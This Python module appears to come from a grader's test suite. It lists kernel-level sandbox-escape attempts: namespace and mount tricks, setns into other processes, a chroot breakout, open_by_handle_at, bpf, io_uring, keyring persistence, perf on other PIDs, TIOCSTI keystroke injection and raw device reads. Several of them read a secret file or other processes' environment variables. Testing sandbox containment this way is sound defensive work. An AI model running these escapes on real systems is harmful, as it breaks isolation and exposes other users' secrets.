"""System calls that no exercise needs."""

from __future__ import annotations

from tests.grader.attacks.attack import Attack
from tests.grader.attacks.problems import SECRET_FILE
from tests.grader.attacks.tools import SEARCH, SYSCALL, after

TITLE = "The kernel"
AIM = "namespaces, mounts, tracing and the rarely used doors of the operating system"


_EXITS_AND_WAITS = {15, 23, 34, 35, 57, 58, 60, 61, 62, 127, 128, 130, 200, 230, 231, 232, 234}
_NOT_TRIED = _EXITS_AND_WAITS | {3, 7, 9, 10, 11, 25, 33, 202, 219, 247, 270, 271, 281, 292, 436}


def _calls(name: str, *lines: str) -> Attack:
    return Attack(name, after(SEARCH + SYSCALL, *lines), 1)


ATTACKS = [
    _calls(
        "makes namespaces of its own and mounts in them",
        "for flags in (0x10000000, 0x10020000, 0x10000000 | 0x20000000, 0x02000000, 0x40000000):",
        "    if libc.unshare(flags) == 0: print('unshared', hex(flags))",
        "for kind in (b'tmpfs', b'proc', b'sysfs', b'overlay', b'mqueue'):",
        "    for place in (b'/agent', b'/tmp', b'/etc'):",
        "        if libc.mount(b'none', place, kind, 0, None) == 0: print('mounted', kind)",
        "libc.mount(b'/', b'/tmp', None, 4096 | 16384, None); libc.umount2(b'/agent', 2)",
        f"tell(read('/tmp' + {str(SECRET_FILE)!r}), 'mount')",
        "for name in os.listdir('/tmp')[:400]: tell(read(f'/tmp/{name}/environ'), name)",
    ),
    _calls(
        "clones itself into new namespaces",
        "args = struct.pack('8Q', 0x10000000 | 0x20000 | 0x20000000, 0, 0, 0, 17, 0, 0, 0)",
        "made = call(435, ctypes.create_string_buffer(args, 64), 64)",
        "if made == 0: os._exit(0)",
        "made = call(56, 0x10000000 | 17, 0, 0, 0, 0)",
        "if made == 0: os._exit(0)",
    ),
    _calls(
        "enters the namespaces of others",
        "for pid in pids()[:60]:",
        "    for kind in ('user', 'mnt', 'pid', 'net', 'ipc'):",
        "        try: fd = os.open(f'/proc/{pid}/ns/{kind}', os.O_RDONLY)",
        "        except OSError: continue",
        "        if libc.setns(fd, 0) == 0 and pid != 1: print('entered', pid, kind)",
        f"tell(read({str(SECRET_FILE)!r}), 'setns')",
    ),
    _calls(
        "changes its root",
        "os.makedirs('a/b', exist_ok=True)",
        "libc.chroot(b'a'); libc.chroot(b'/proc/1/root'); libc.pivot_root(b'.', b'a')",
        "here = os.open('.', os.O_RDONLY)",
        "for _ in range(40):",
        "    try: os.chdir('..')",
        "    except OSError: pass",
        "libc.chroot(b'.')",
        f"tell(read('.' + {str(SECRET_FILE)!r}), 'chroot'); os.fchdir(here)",
    ),
    _calls(
        "opens files by handle",
        "handle = ctypes.create_string_buffer(struct.pack('Ii', 8, 1) + bytes(128))",
        "for inode in (2, 1, 128):",
        "    ctypes.memmove(ctypes.addressof(handle) + 8, struct.pack('II', inode, 0), 8)",
        "    fd = libc.open_by_handle_at(os.open('/', os.O_RDONLY), handle, os.O_RDONLY)",
        "    if fd >= 0: print('opened'); tell(str(os.listdir(fd)), 'handle')",
    ),
    _calls(
        "loads programs into the kernel",
        "program = ctypes.create_string_buffer(128)",
        "for number in range(20):",
        "    fd = call(321, number, program, 128)",
        "    if fd >= 0: print('bpf', number)",
    ),
    _calls(
        "works through a ring of requests",
        "ring = call(425, 8, ctypes.create_string_buffer(120))",
        "if ring >= 0: print('io_uring', ring)",
    ),
    _calls(
        "keeps secrets in the kernel's keyring for later",
        "key = call(248, b'user', b'pm-left-behind', b'pm-left-behind', 14, -4)",
        "if key >= 0: print('kept a key')",
        "for ring in (-1, -2, -3, -4, -5):",
        "    size = call(250, 11, ring, ctypes.create_string_buffer(4096), 4096)",
    ),
    _calls(
        "counts the events of others",
        "about = ctypes.create_string_buffer(struct.pack('IIQ', 1, 112, 0) + bytes(96))",
        "for pid in [-1, 0, *pids()[:40]]:",
        "    fd = call(298, about, pid, 0 if pid < 0 else -1, -1, 0)",
        "    if fd >= 0 and pid: print('perf', pid)",
    ),
    _calls(
        "handles page faults itself",
        "fd = call(323, 0o2000000)",
        "if fd >= 0: print('userfaultfd')",
    ),
    _calls(
        "changes how it is run",
        "libc.personality(0x0040000 | 0x0400000); libc.prctl(22, 1, 0, 0, 0)",
        "libc.prctl(26, 2, 0, 0, 0); libc.prctl(8, 1, 0, 0, 0); libc.prctl(47, 2, 21, 0, 0)",
        "call(317, 0, 0, None)",
    ),
    _calls(
        "types into the terminal",
        "import fcntl, termios",
        "for path in ('/dev/tty', '/dev/console', '/dev/pts/0', '/dev/ptmx'):",
        "    try: fd = os.open(path, os.O_RDWR | os.O_NOCTTY)",
        "    except OSError: continue",
        "    for letter in b'id\\n':",
        "        try: fcntl.ioctl(fd, termios.TIOCSTI, bytes([letter])); print('typed')",
        "        except OSError: pass",
    ),
    _calls(
        "opens raw devices",
        "for name in ('mem', 'kmsg', 'fuse', 'kvm', 'sda', 'vda', 'net/tun', 'ptmx'):",
        "    tell(read(f'/dev/{name}'), name)",
        "try: os.mknod('disk', 0o60666, os.makedev(253, 0)); print('made a device')",
        "except OSError: pass",
    ),
    _calls(
        "sets the clock, the name and the power of the machine",
        "for number in (164, 227, 170, 171, 169, 175, 246):",
        "    if call(number, 0, 0, 0, 0) == 0: print('done', number)",
    ),
    _calls(
        "moves pages and processors",
        "call(279, 1, 0, None, None, None, 0); call(203, 1, 8, ctypes.create_string_buffer(8))",
        "call(144, 0, 1, ctypes.create_string_buffer(struct.pack('i', 50)))",
        "libc.mlockall(3); os.sched_yield()",
    ),
    _calls(
        "tries every system call there is",
        # All but those that end, stop or fork the process that tries, or close what it needs.
        f"skipped = {_NOT_TRIED!r}",
        "alone = True",
        "for number in range(470):",
        "    if number in skipped: continue",
        "    try: child = os.fork() if alone else 0",
        "    except OSError: child, alone = 0, False",
        "    if child == 0: call(number, -1, -1, -1, -1, -1, -1)",
        "    if child == 0 and alone: os._exit(0)",
        "    if child: os.waitpid(child, 0)",
    ),
]
